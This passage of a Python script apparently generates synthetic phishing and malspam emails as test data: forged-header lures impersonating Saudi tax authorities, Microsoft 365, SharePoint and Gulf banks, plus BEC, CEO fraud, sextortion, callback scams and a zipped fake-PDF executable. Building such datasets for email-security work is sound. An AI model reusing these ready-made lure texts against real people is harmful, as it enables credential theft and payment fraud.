               "تود هيئة الزكاة والضريبة والجمارك إحاطتكم بأنه قد تم اختياركم ضمن الموجة الحالية من المكلفين الملزمين "
               "بالربط والتكامل مع منصة <b>فاتورة</b> (المرحلة الثانية - مرحلة الربط والتكامل).",
               "يتوجب عليكم استكمال إجراءات التسجيل وربط أنظمة الفوترة خلال <b>3 أيام عمل</b> من تاريخ هذا الإشعار، "
               "وفي حال عدم الالتزام ستطبق الغرامات المنصوص عليها في اللائحة التنفيذية.",
               "يرجى الدخول باستخدام بيانات حساب المنشأة في بوابة الهيئة لاستكمال الإجراءات."],
        button=("استكمال التسجيل", link),
        footer=["هيئة الزكاة والضريبة والجمارك - المملكة العربية السعودية", "الرقم الموحد 19993"])
    hdr = H(rx("postfix", rcpt="finance@alwaha-trading.com.sa", d=d, helo="p3plzcpnl509211.prod.phx3.secureserver.net",
               ip="184.168.123.90", mailfrom=f"info@{dom}", seed=stem, dkims=[(dom, "default", "pass")],
               dmarc=None, hfrom=dom),
            dkim(dom, "default", stem, d),
            "From: " + addr("هيئة الزكاة والضريبة والجمارك", f"info@{dom}"),
            "To: finance@alwaha-trading.com.sa",
            "Subject: " + enc("إشعار إلزامي: الربط مع منصة فاتورة خلال 3 أيام"),
            f"Date: {rfc(d)}",
            f"Message-ID: <{hx(stem, 32)}@{dom}>",
            "MIME-Version: 1.0")
    return message(hdr, text(html, "html", "base64"))


@reg("phish-m365-ipfs-expiry", "phishing",
     "Microsoft 365 'password expires today, keep current password' kit sent to an oil-and-gas employee from a "
     "compromised South African mailbox; the link is an IPFS gateway page with the victim's address base64 in the fragment.")
def _p_ipfs(stem):
    d = when("2025-02-19T03:27:51+00:00")
    dom = "kleenmax-services.co.za"
    rcpt = "j.varghese@alfajr-petroleum.com"
    link = f"https://ipfs.io/ipfs/bafybei{an(stem + 'cid', 52)}/index.html#{base64.b64encode(rcpt.encode()).decode()}"
    inner = f"""<table width="100%" style="max-width:620px;font-family:'Segoe UI',Arial;font-size:14px;color:#323130;">
<tr><td style="padding:12px 0;font-size:18px;"><b>Microsoft 365</b></td></tr>
<tr><td style="padding:8px 0;font-size:20px;color:#0078d4;">Password Expiry Notice</td></tr>
<tr><td style="padding:8px 0;">The password for <b>{rcpt}</b> expires today, <b>{d.strftime('%d %B %Y')}</b>.</td></tr>
<tr><td style="padding:8px 0;">You can keep using your current password. If no action is taken your account will be signed out of
Outlook, Teams and OneDrive and you will need to contact IT to unlock it.</td></tr>
<tr><td style="padding:16px 0;"><a href="{link}" style="background:#0078d4;color:#fff;padding:10px 22px;text-decoration:none;">Keep Current Password</a></td></tr>
<tr><td style="padding:8px 0;font-size:12px;color:#605e5c;">alfajr-petroleum.com IT Service Desk &middot; This is an automated message from the Microsoft 365 admin center.</td></tr>
</table>"""
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo="cp62.domains.co.za", ip="156.38.140.62", mailfrom=f"accounts@{dom}",
               seed=stem, dkims=[(dom, "default", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "default", stem, d),
            f"From: IT Service Desk <accounts@{dom}>",
            f"To: {rcpt}",
            f"Subject: Password Expiry Notice for {rcpt}",
            f"Date: {rfc(d)}",
            f"Message-ID: <{hx(stem, 32)}@{dom}>",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, text(kit_html(inner, font="Segoe UI, Arial"), "html", "quoted-printable"))


@reg("phish-sharepoint-tender", "phishing",
     "Genuine SharePoint Online sharing notification sent from a compromised engineering contractor's tenant: a "
     "'Tender Documents' OneNote file whose link leads to a Microsoft 365 credential-harvesting page.")
def _p_sp(stem):
    d = when("2025-04-16T09:41:27+00:00")
    tenant = "gulfengineeringco"
    link = (f"https://{tenant}-my.sharepoint.com/:o:/g/personal/k_almansoori_{tenant}_com/"
            f"E{mixed(stem + 'sp', 45)}?e={mixed(stem + 'e', 6)}")
    rcpt = "procurement@omanmarine-services.com"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><div style="font-family:'Segoe UI',sans-serif;max-width:640px;">
<table role="presentation" cellpadding="0" cellspacing="0" style="width:100%;"><tr><td style="padding:24px 24px 8px 24px;font-size:21px;color:#242424;">
Khalid Al Mansoori shared a file with you</td></tr>
<tr><td style="padding:8px 24px;font-size:14px;color:#242424;border-left:3px solid #0f6cbd;">Dear Supplier, please find the tender documents for the
Sohar Port jetty maintenance package (RFQ GEC-OM-25-044). Kindly review and submit your best offer before 24 April 2025.</td></tr>
<tr><td style="padding:16px 24px;"><table role="presentation" style="border:1px solid #e0e0e0;border-radius:4px;width:100%;"><tr>
<td style="padding:12px;font-size:14px;"><b>Tender Documents - GEC-OM-25-044</b></td></tr></table></td></tr>
<tr><td style="padding:8px 24px 24px 24px;"><a href="{link}" style="background:#0f6cbd;color:#ffffff;padding:8px 18px;border-radius:4px;text-decoration:none;font-size:14px;">Open</a></td></tr>
<tr><td style="padding:16px 24px;font-size:12px;color:#616161;">This link only works for the direct recipients of this message.</td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:12px;color:#616161;">
<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#616161;">Privacy Statement</a></td></tr>
</table></div></body></html>
"""
    txt = plain(["Khalid Al Mansoori shared a file with you",
                 "Dear Supplier, please find the tender documents for the Sohar Port jetty maintenance package (RFQ "
                 "GEC-OM-25-044). Kindly review and submit your best offer before 24 April 2025.",
                 "Tender Documents - GEC-OM-25-044", f"Open: {link}",
                 "This link only works for the direct recipients of this message.",
                 "Privacy Statement: https://go.microsoft.com/fwlink/?LinkId=521839"])
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo="EUR05-VI1-obe.outbound.protection.outlook.com", ip="40.107.21.118",
               rdns="mail-vi1eur05on2118.outbound.protection.outlook.com", mailfrom="no-reply@sharepointonline.com",
               seed=stem, dkims=[("sharepointonline.com", "selector1", "pass")], dmarc=("pass", "REJECT"),
               hfrom="sharepointonline.com"),
            dkim("sharepointonline.com", "selector1", stem, d, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            "From: " + addr("Khalid Al Mansoori (via SharePoint Online)", "no-reply@sharepointonline.com"),
            f"To: {rcpt}",
            "Subject: Khalid Al Mansoori shared \"Tender Documents - GEC-OM-25-044\" with you",
            f"Date: {rfc(d)}",
            f"Message-ID: <{hx(stem, 8)}-{hx(stem + '1', 4)}-{hx(stem + '2', 4)}-{hx(stem + '3', 4)}-{hx(stem + '4', 12)}@odspnotify>",
            "X-Sharing-Type: ShareWithCustomMessage",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, alt(stem, txt, html))


@reg("phish-bec-supplier-iban", "phishing",
     "Supplier bank-change BEC: a look-alike of a Dubai building-materials supplier's domain (.com instead of .ae) on "
     "Zoho Mail asks accounts payable to pay open invoices to a 'new' account; no link, no attachment.")
def _p_bec(stem):
    d = when("2025-03-25T10:17:44+04:00")
    dom = "almasa-bm.com"
    paras = ["Dear Accounts Team,",
             "Good day.",
             "Kindly note that due to an ongoing internal audit of our corporate account with Emirates Islamic, we have "
             "changed our receiving bank. With effect from today all payments against our invoices should be remitted "
             "to our new account with Wio Bank as below:",
             "Account name: Al Masa Building Materials Trading LLC\nBank: Wio Bank PJSC\nIBAN: AE44 0860 0000 0{0}\n"
             "SWIFT: WIOBAEADXXX".format(dg(stem, 9) + " 42"),
             "Please update your vendor master and process the outstanding invoices INV-25-0311 (AED 86,420.00) and "
             "INV-25-0327 (AED 41,910.50) to the new account. The official letter on our letterhead will be shared by our "
             "finance manager tomorrow.",
             "Kindly confirm by return email once updated. Our landline is currently under maintenance, so please "
             "communicate by email only.",
             "Best regards,\nRajesh Kumar\nAccounts Manager\nAl Masa Building Materials Trading LLC\nAl Quoz Industrial Area 3, Dubai, UAE"]
    txt = plain(paras)
    html = ('<div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;">'
            + "".join(f"<div>{esc(p).replace(chr(10), '<br>')}<br></div><div><br></div>" for p in paras) + "</div>\n")
    hdr = H(rx("m365", rcpt="ap@alnoor-contracting.ae", d=d, helo="sender4-op-o12.zoho.com", ip="136.143.188.12",
               mailfrom=f"rajesh.kumar@{dom}", seed=stem, dkims=[(dom, "zmail", "pass")], dmarc=None, hfrom=dom),
            "ARC-Seal: i=1; a=rsa-sha256; t=" + str(int(utc(d).timestamp())) + "; cv=none; d=zohomail.com; s=zohoarc;\n\tb="
            + wrap_b64(b64(stem + "zarc", 344)),
            dkim(dom, "zmail", stem, d, h="Date:Date:From:From:To:To:Message-Id:Message-Id:Subject:Subject:MIME-Version:Content-Type:Reply-To"),
            f"Received: by mx.zohomail.com with SMTPS id {int(utc(d).timestamp())}{dg(stem + 'z', 9)}.{dg(stem + 'z2', 3)}; "
            f"{rfc(d.astimezone(timezone(timedelta(hours=-7))))} (PDT)",
            f"Received: from [41.58.{int(dg(stem + 'i', 3)) % 250}.{int(dg(stem + 'i2', 3)) % 250}] by mx.zohomail.com\n"
            f"\twith SMTP id {int(utc(d).timestamp())}{dg(stem + 'z3', 9)}.{dg(stem + 'z4', 3)}; {rfc(d.astimezone(timezone(timedelta(hours=-7))))} (PDT)",
            f"Date: {rfc(d)}",
            f"From: Rajesh Kumar <rajesh.kumar@{dom}>",
            "To: \"ap@alnoor-contracting.ae\" <ap@alnoor-contracting.ae>",
            f"Message-Id: <{hx(stem, 11)}.{hx(stem + 'm', 8)}.{dg(stem + 'm2', 19)}@{dom}>",
            "Subject: Change of Bank Details - Al Masa Building Materials",
            "MIME-Version: 1.0",
            "Importance: High",
            "X-Priority: 1",
            "User-Agent: Zoho Mail",
            "X-Mailer: Zoho Mail",
            exch(stem, d))
    return message(hdr, alt(stem, txt, html, "generic"))


@reg("phish-ceo-fraud-arabic", "phishing",
     "Arabic CEO fraud to a Jordanian engineering firm's accountant from a Gmail address under the managing "
     "director's name: 'are you in the office, I need an urgent confidential transfer today, don't call, I'm in a meeting'.")
def _p_ceo(stem):
    d = when("2025-11-12T09:48:05+03:00")
    frm_addr = "samer.hammouri.office@gmail.com"
    paras = ["صباح الخير أستاذة دينا،",
             "هل أنتِ في المكتب الآن؟ أحتاج منك إنجاز تحويل بنكي عاجل اليوم لمورد جديد بخصوص مشروع العقبة، الموضوع سري "
             "ولا أريد أن يعرف به أحد في الوقت الحالي حتى نوقّع الاتفاقية.",
             "أنا في اجتماع مطوّل مع الشركاء ولا أستطيع الرد على الهاتف، تواصلي معي على الإيميل فقط وأخبريني كم الرصيد "
             "المتاح في حساب الشركة لدى البنك العربي لأرسل لك تفاصيل المستفيد.",
             "م. سامر الحموري\nالمدير العام",
             "أُرسلت من الـ iPhone"]
    txt = plain(paras)
    html = gmail_html([esc(p).replace("\n", "<br>") for p in paras], rtl=True)
    hdr = H(rx("postfix", rcpt="dina.saleh@hammouri-eng.jo", d=d, mailfrom=frm_addr, seed=stem,
               dkims=[("gmail.com", "20230601", "pass")], dmarc=("pass", "none"), hfrom="gmail.com", **GMAIL_OUT),
            gm_out(stem, d, addr("م. سامر الحموري", frm_addr), "dina.saleh@hammouri-eng.jo", enc("طلب عاجل")))
    return message(hdr, alt(stem, txt, html, "gmail", "base64"))


@reg("phish-replychain-po", "phishing",
     "Reply-chain hijack from a real, compromised supplier mailbox on Microsoft 365: a reply in an existing purchase-"
     "order thread pointing to a 'revised quotation' on Dropbox that leads to a credential page.")
def _p_reply(stem):
    d = when("2025-06-17T11:03:29+04:00")
    dom = "bluewave-hydraulics.com"
    link = f"https://www.dropbox.com/scl/fi/{an(stem + 'db', 21)}/Revised_Quotation_PO-24-1187.pdf?rlkey={an(stem + 'rk', 25)}&amp;dl=0"
    quoted = f"""<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
<p class="MsoNormal"><b>From:</b> Mohammed Farouk &lt;m.farouk@gulfstar-trading.ae&gt;<br>
<b>Sent:</b> Monday, June 16, 2025 4:12 PM<br><b>To:</b> Anil Joseph &lt;anil.joseph@{dom}&gt;<br>
<b>Cc:</b> Procurement &lt;procurement@gulfstar-trading.ae&gt;<br>
<b>Subject:</b> RE: PO-24-1187 - Hydraulic Fittings - Quotation</p></div>
<p class="MsoNormal">Dear Anil,<br>Thank you. Please share the revised quotation with the updated delivery schedule (Jebel Ali) and
the 5% discount discussed so we can release the PO this week.<br>Regards,<br>Mohammed Farouk<br>Procurement Officer | Gulfstar Trading LLC</p>
<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
<p class="MsoNormal"><b>From:</b> Anil Joseph &lt;anil.joseph@{dom}&gt;<br><b>Sent:</b> Thursday, June 12, 2025 10:41 AM<br>
<b>Subject:</b> PO-24-1187 - Hydraulic Fittings - Quotation</p></div>
<p class="MsoNormal">Dear Mohammed,<br>Please find attached our quotation BWH/Q/25/0612 for the hydraulic fittings as per your RFQ.<br>Best regards,<br>Anil</p>
"""
    paras = ["Dear Mohammed,",
             "As discussed, please find the revised quotation with the updated delivery schedule and the agreed discount "
             "at the link below (file is large, so shared via Dropbox):",
             f'<a href="{link}">Revised_Quotation_PO-24-1187.pdf</a>',
             "Kindly review and confirm so we can proceed.",
             "Best regards,"]
    sig = ["Anil Joseph", "Sales Engineer | Bluewave Hydraulics FZE", "Jebel Ali Free Zone, Dubai, UAE | +971 4 881 2290"]
    html = outlook_html(paras, sig, quoted=quoted)
    txt = plain(["Dear Mohammed,", "As discussed, please find the revised quotation with the updated delivery schedule and "
                 "the agreed discount at the link below (file is large, so shared via Dropbox):",
                 f"Revised_Quotation_PO-24-1187.pdf<{link.replace('&amp;', '&')}>", "Kindly review and confirm so we can proceed.",
                 "Best regards,\n" + "\n".join(sig),
                 "From: Mohammed Farouk <m.farouk@gulfstar-trading.ae>\nSent: Monday, June 16, 2025 4:12 PM\n"
                 "Subject: RE: PO-24-1187 - Hydraulic Fittings - Quotation",
                 "Dear Anil,\nThank you. Please share the revised quotation with the updated delivery schedule (Jebel Ali) "
                 "and the 5% discount discussed so we can release the PO this week."])
    prev = f"<{UP(stem + 'pv', 2)}4PR08MB{dg(stem + 'pv2', 4)}{AN(stem + 'pv3', 16)}@{UP(stem + 'pv', 2)}4PR08MB{dg(stem + 'pv2', 4)}.eurprd08.prod.outlook.com>"
    first = f"<{UP(stem + 'fv', 2)}6PR02MB{dg(stem + 'fv2', 4)}{AN(stem + 'fv3', 16)}@{UP(stem + 'fv', 2)}6PR02MB{dg(stem + 'fv2', 4)}.eurprd02.prod.outlook.com>"
    hdr = H(rx("m365", rcpt="m.farouk@gulfstar-trading.ae", d=d, helo="EUR03-AM7-obe.outbound.protection.outlook.com",
               ip="40.107.105.97", rdns="mail-am7eur03on2097.outbound.protection.outlook.com", mailfrom=f"anil.joseph@{dom}",
               seed=stem, dkims=[(dom, "selector1", "pass")], dmarc=("pass", "QUARANTINE"), hfrom=dom),
            "ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b=" + wrap_b64(b64(stem + "as", 344), " ", 72),
            dkim(dom, "selector1", stem, d, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            f"From: Anil Joseph <anil.joseph@{dom}>",
            "To: Mohammed Farouk <m.farouk@gulfstar-trading.ae>",
            "CC: Procurement <procurement@gulfstar-trading.ae>",
            "Subject: RE: PO-24-1187 - Hydraulic Fittings - Quotation",
            "Thread-Topic: PO-24-1187 - Hydraulic Fittings - Quotation",
            f"Thread-Index: AQH{mixed(stem + 'ti', 28)}",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('outlook', stem, 'eurprd08')}",
            f"References: {first}\n {prev}",
            f"In-Reply-To: {prev}",
            "Accept-Language: en-US",
            "Content-Language: en-US",
            "X-MS-Has-Attach:",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, alt(stem, txt, html, "outlook"))


@reg("phish-sextortion-fr", "phishing",
     "French sextortion to a Tunisian Topnet subscriber, spoofing his own address from a residential IP (SPF softfail): "
     "claims a hacked device and webcam video, demands 1,450 USD in Bitcoin to a wallet address.")
def _p_sext(stem):
    d = when("2025-02-18T02:51:13+01:00")
    me = "sami.trabelsi@topnet.tn"
    wallet = "bc1q" + an(stem + "btc", 38, "023456789acdefghjklmnpqrstuvwxyz")
    body = plain([
        "Bonjour,",
        "Je suis un programmeur professionnel et j'ai piraté votre appareil il y a plusieurs mois. Comme vous pouvez le "
        f"constater, je vous écris depuis votre propre adresse e-mail ({me}).",
        "J'ai installé un logiciel espion sur votre système lors de votre visite d'un site pour adultes. Depuis, j'ai "
        "accès à vos contacts, à vos messages, à votre caméra et à votre micro. J'ai enregistré une vidéo de vous "
        "pendant que vous regardiez ces vidéos, avec l'écran à côté.",
        "Je vous propose un marché : transférez 1450 USD en Bitcoin à l'adresse ci-dessous et je supprimerai "
        "définitivement la vidéo et toutes vos données.",
        f"Mon portefeuille Bitcoin : {wallet}",
        "Vous avez 48 heures à partir de l'ouverture de ce message. J'ai un pixel de suivi qui m'indique que vous l'avez "
        "lu. Si je ne reçois pas le paiement, la vidéo sera envoyée à tous vos contacts, à votre famille et à vos "
        "collègues.",
        "Ne répondez pas à ce message et n'essayez pas de me signaler, cela ne servira à rien.",
    ], 76)
    hdr = H(rx("postfix", rcpt=me, d=d, helo="[186.219.14.203]", ip="186.219.14.203",
               rdns="186-219-14-203.dynamic.brdigital.net.br", mailfrom=me, seed=stem, spf="softfail", dkims=[],
               dmarc=None, hfrom="topnet.tn", host="mx2.topnet.tn"),
            f"From: {me}",
            f"To: {me}",
            "Subject: " + enc("Votre compte a été piraté - lisez attentivement", "utf-8"),
            f"Date: {rfc(d)}",
            f"Message-ID: <{hx(stem, 6).upper()}{hx(stem + 'a', 6).upper()}{hx(stem + 'b', 4).upper()}@topnet.tn>",
            "X-Mailer: Microsoft Outlook 16.0",
            "MIME-Version: 1.0")
    return message(hdr, text(body, "plain", "quoted-printable"))


@reg("phish-m365-qr-mfa", "phishing",
     "Microsoft 365 'MFA re-enrollment required' quishing to a Qatari marine company from a compromised printing "
     "company mailbox: the call to action is an inline QR code to an adversary-in-the-middle login page.")
def _p_qrmfa(stem):
    d = when("2025-04-08T06:14:22+00:00")
    dom = "alkhaleej-printing.com"
    rcpt = "a.alsulaiti@doha-marinetech.com.qa"
    qr = f"https://mfa-renew.sso-auth365.com/?e={base64.b64encode(rcpt.encode()).decode()}"
    cid = f"{hx(stem + 'cid', 8)}.{hx(stem + 'cid2', 8)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:'Segoe UI',Arial;font-size:14px;max-width:600px;color:#201f1e;">
<p style="font-size:20px;">Multi-Factor Authentication (MFA) re-enrollment required</p>
<p>Dear {rcpt.split('@')[0]},</p>
<p>As part of our Q2 security compliance review, all doha-marinetech.com.qa accounts must re-register the Microsoft
Authenticator app before <b>10 April 2025</b>. Accounts that are not re-enrolled will be blocked from Outlook and Teams.</p>
<p>Scan the QR code below with your phone camera to start the re-enrollment:</p>
<p><img src="cid:{cid}" width="210" height="210" alt=""></p>
<p style="font-size:12px;color:#605e5c;">IT Security Team<br>This message was sent to {rcpt}</p>
</div></body></html>
"""
    rel = Multi("related", boundary(stem + "rel"), [text(html, "html"),
                Leaf("image/png", F.qr_png(qr), "base64", '; name="image001.png"', 'inline; filename="image001.png"',
                     [f"Content-ID: <{cid}>"])])
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo="server.alkhaleej-printing.com", ip="46.151.212.44", mailfrom=f"sales@{dom}",
               seed=stem, dkims=[(dom, "default", "pass")], dmarc=("pass", "none"), hfrom=dom),
            dkim(dom, "default", stem, d),
            f"From: IT Security <sales@{dom}>",
            f"To: {rcpt}",
            "Subject: ACTION REQUIRED: MFA re-enrollment before 10 April 2025",
            f"Date: {rfc(d)}",
            f"Message-ID: <{hx(stem, 32)}@{dom}>",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, rel)


@reg("phish-callback-noon", "phishing",
     "Callback scam posing as a noon order confirmation (iPhone 16 Pro Max, AED 6,849) from a Gmail account with a PDF "
     "'invoice'; no links, the victim is told to call a phone number to cancel, leading to remote-access/refund fraud.")
def _p_callback(stem):
    d = when("2025-09-30T13:36:48+04:00")
    frm_addr = "noon.orderdesk.uae@gmail.com"
    order = f"NAE{dg(stem, 11)}"
    paras = ["Dear Customer,",
             f"Thank you for shopping with noon. Your order {order} has been confirmed and will be charged to your card today.",
             "Item: Apple iPhone 16 Pro Max 1TB Desert Titanium\nQuantity: 1\nTotal: AED 6,849.00\nPayment: Visa ending ****",
             "If you did not place this order or want to cancel it, call our Order Cancellation Desk within 24 hours on "
             "+971 4 574 0183 (8 AM - 10 PM). Refunds cannot be processed by email.",
             "Thanks,\nnoon Customer Support"]
    txt = plain(paras)
    html = gmail_html([esc(p).replace("\n", "<br>") for p in paras])
    inv = F.pdf(["noon - TAX INVOICE", f"Order number: {order}", "Date: 30/09/2025",
                 "Apple iPhone 16 Pro Max 1TB Desert Titanium      AED 6,849.00",
                 "VAT (5%) included", "", "Did not place this order? Call +971 4 574 0183 to cancel.",
                 "noon AD Holdings Ltd."], title="Invoice")
    hdr = H(rx("gmail", rcpt="mariam.alhashimi@gmail.com", d=d, mailfrom=frm_addr, seed=stem,
               dkims=[("gmail.com", "20230601", "pass")], dmarc=("pass", "none"), hfrom="gmail.com", **GMAIL_OUT),
            gm_out(stem, d, f"noon Order Desk <{frm_addr}>", "mariam.alhashimi@gmail.com",
                   f"Your noon order {order} is confirmed - AED 6,849.00"))
    return message(hdr, Multi("mixed", boundary(stem + "mx", "gmail"),
                              [alt(stem, txt, html, "gmail"), attachment("application/pdf", f"Invoice_{order}.pdf", inv)]))


@reg("phish-arabbank-cliq", "phishing",
     "Arabic Arab Bank (Jordan) 'activate/update your CliQ alias within 24 hours or transfers stop' lure to a Yahoo "
     "user from a look-alike domain, link to an Arabi Mobile credential and OTP kit.")
def _p_arabbank(stem):
    d = when("2025-08-05T16:29:03+00:00")
    dom = "arabbank-jo-cliq.com"
    link = f"https://{dom}/arabi-mobile/verify?token={hx(stem, 24)}"
    html = brand_html(
        title="تحديث الاسم المستعار لخدمة CliQ", brand="البنك العربي Arab Bank", color="#00558c", rtl=True, lang="ar",
        paras=["عزيزي العميل،",
               "تماشياً مع تعليمات البنك المركزي الأردني بشأن خدمة الدفع الفوري CliQ، يتوجب على جميع العملاء تحديث "
               "الاسم المستعار (Alias) المرتبط بحساباتهم وتأكيده من خلال عربي موبايل.",
               "لم يتم تأكيد الاسم المستعار الخاص بك حتى الآن، وسيتم إيقاف استقبال وإرسال الحوالات الفورية خلال 24 ساعة.",
               "يرجى الضغط على الرابط أدناه وإدخال بيانات الدخول ورمز التحقق لإتمام التحديث."],
        button=("تأكيد الاسم المستعار", link),
        footer=["البنك العربي ش.م.ع - عمّان، الأردن", "هذه رسالة آلية."])
    hdr = H(rx("yahoo", rcpt="mohammad.qasem@yahoo.com", d=d, helo=f"mail.{dom}", ip="45.141.87.19",
               mailfrom=f"noreply@{dom}", seed=stem, dkims=[(dom, "default", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "default", stem, d),
            "From: " + addr("البنك العربي", f"noreply@{dom}"),
            "To: mohammad.qasem@yahoo.com",
            "Subject: " + enc("البنك العربي: يرجى تأكيد الاسم المستعار لخدمة CliQ خلال 24 ساعة"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('phpmailer', stem, dom)}",
            "MIME-Version: 1.0")
    return message(hdr, text(html, "html", "base64"))


@reg("phish-djezzy-bonus", "phishing",
     "French/Arabic Djezzy 'you won a 10,000 DA anniversary bonus' lure to an Algerian Gmail user sent from a "
     "compromised hosting account, link to a page that asks for the phone number, the SMS code and an Edahabia card.")
def _p_djezzy(stem):
    d = when("2025-01-14T12:08:51+00:00")
    dom = "ecole-elfarabi.edu.dz"
    link = f"https://djezzy-cadeau.com/bonus?id={hx(stem, 10)}"
    html = brand_html(
        title="Félicitations ! Bonus de 10 000 DA", brand="Djezzy", color="#e30613", lang="fr",
        paras=["Cher client,",
               "À l'occasion de l'anniversaire de Djezzy, vous faites partie des 5 000 abonnés sélectionnés pour recevoir "
               "un <b>bonus de 10 000 DA</b> et 100 Go d'internet.",
               "Pour activer votre bonus, confirmez votre numéro et le code reçu par SMS avant le 16/01/2025.",
               '<div dir="rtl" style="text-align:right;">مبروك! لقد تم اختيارك للحصول على رصيد 10000 دج و100 جيغا انترنت. '
               "أكد رقمك قبل 16/01/2025.</div>"],
        button=("Activer mon bonus", link),
        footer=["Djezzy - Optimum Telecom Algérie SPA", "Se désabonner"])
    hdr = H(rx("gmail", rcpt="amine.boudiaf@gmail.com", d=d, helo="cpanel.dz-hosting.net", ip="41.111.204.37",
               mailfrom=f"contact@{dom}", seed=stem, dkims=[(dom, "default", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "default", stem, d),
            f"From: Djezzy <contact@{dom}>",
            "To: amine.boudiaf@gmail.com",
            "Subject: " + enc("Djezzy : vous avez gagné un bonus de 10 000 DA 🎁"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('phpmailer', stem, dom)}",
            "MIME-Version: 1.0")
    return message(hdr, text(html, "html", "quoted-printable"))


@reg("phish-benefitpay-shortener", "phishing",
     "Arabic/English BenefitPay (Bahrain) 'wallet suspended, re-verify your CPR and card' lure to an Outlook.com "
     "user from a throwaway domain, link through the rb.gy shortener to the card-harvesting page.")
def _p_benefit(stem):
    d = when("2025-10-14T19:02:37+00:00")
    dom = "benefit-wallet.info"
    link = "https://rb.gy/bnf7qx"
    inner = f"""<div style="max-width:560px;margin:auto;border:1px solid #ddd;font-family:Arial;">
<div style="background:#d52b1e;color:#fff;padding:14px;font-size:20px;"><b>BenefitPay</b></div>
<div style="padding:16px;">
<p>Dear Customer,</p>
<p>Your BenefitPay wallet has been <b>temporarily suspended</b> because your CPR details and linked card could not be verified.
Please re-verify within 24 hours to continue sending and receiving money.</p>
<p dir="rtl" style="text-align:right;">عزيزي العميل، تم إيقاف محفظة بنفت باي مؤقتاً لعدم التحقق من بيانات البطاقة الذكية والبطاقة المصرفية المرتبطة. يرجى إعادة التحقق خلال 24 ساعة.</p>
<p style="text-align:center;"><a href="{link}" style="background:#d52b1e;color:#fff;padding:10px 30px;text-decoration:none;">Verify | تحقق</a></p>
<p style="font-size:11px;color:#888;">The BENEFIT Company B.S.C. (c), Manama, Kingdom of Bahrain</p>
</div></div>"""
    hdr = H(rx("outlookcom", rcpt="ali.alaali@outlook.com", d=d, helo=f"mail.{dom}", ip="31.222.238.15",
               mailfrom=f"alert@{dom}", seed=stem, dkims=[], dmarc=None, hfrom=dom),
            f"From: BenefitPay <alert@{dom}>",
            "To: ali.alaali@outlook.com",
            "Subject: " + enc("BenefitPay: wallet suspended | تم إيقاف المحفظة"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('generic', stem, dom)}",
            "MIME-Version: 1.0",
            exch(stem, d, "outlookcom"))
    return message(hdr, text(kit_html(inner), "html", "base64"))


@reg("phish-bankmuscat-gforms", "phishing",
     "Bank Muscat 'update your mobile banking details to avoid deactivation' lure from a free Gmail account using "
     "the bank's name, link to a genuine Google Forms form that collects the account, card and OTP details.")
def _p_bankmuscat(stem):
    d = when("2024-11-26T11:45:12+04:00")
    frm_addr = "bankmuscat.care@gmail.com"
    link = f"https://docs.google.com/forms/d/e/1FAIpQLS{mixed(stem + 'gf', 50)}/viewform?usp=sf_link"
    paras = ["Dear Valued Customer,",
             "As per the Central Bank of Oman directives, all Bank Muscat mobile banking customers must update their "
             "customer details before 30 November 2024. Accounts that are not updated will have mobile banking "
             "deactivated.",
             f'Please complete the update form here: <a href="{link}">Bank Muscat Customer Update Form</a>',
             "Thank you,\nBank Muscat Customer Care"]
    txt = plain([p.replace(f'<a href="{link}">Bank Muscat Customer Update Form</a>', link) for p in paras])
    html = gmail_html([p.replace("\n", "<br>") for p in paras])
    hdr = H(rx("gmail", rcpt="said.albalushi@gmail.com", d=d, mailfrom=frm_addr, seed=stem,
               dkims=[("gmail.com", "20230601", "pass")], dmarc=("pass", "none"), hfrom="gmail.com", **GMAIL_OUT),
            gm_out(stem, d, f"Bank Muscat <{frm_addr}>", "said.albalushi@gmail.com",
                   "Important: Update your Bank Muscat mobile banking details"))
    return message(hdr, alt(stem, txt, html, "gmail"))


# =========================================================================== attacks: malware

@reg("malware-rfq-zip-exe", "malware",
     "Offshore-project RFQ malspam to an oil-and-gas procurement mailbox from a compromised Indian supplier mailbox "
     "(Exim/cPanel): a zip holding a PE executable disguised as 'RFQ_..._Specs.pdf.exe'.")
def _m_rfq(stem):
    d = when("2025-02-04T07:19:33+00:00")
    dom = "shivshakti-valves.co.in"
    rcpt = "procurement@alfajr-petroleum.com"
    paras = ["Dear Sir/Madam,",
             "Good day.",
             "Kindly find attached our Request for Quotation No. ADC-25-0178 for the supply of gate valves, ball valves "
             "and fittings for the Umm Shaif offshore project, together with the technical specifications and drawings.",
             "Please send us your best price, delivery time and validity of offer on or before 12 February 2025.",
             "Note: the attachment is compressed due to size. Kindly confirm receipt.",
             "Thanks & Regards,\nVikram Desai\nPurchase Department\nShiv Shakti Valves & Fittings Pvt. Ltd.\nVadodara, Gujarat, India"]
    txt = plain(paras)
    html = outlook_html([esc(p).replace("\n", "<br>") for p in paras])
    z = F.zip_archive([("RFQ_ADC-25-0178_Specs.pdf.exe", F.pe_stub())])
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo="md-in-79.webhostbox.net", ip="162.215.248.174",
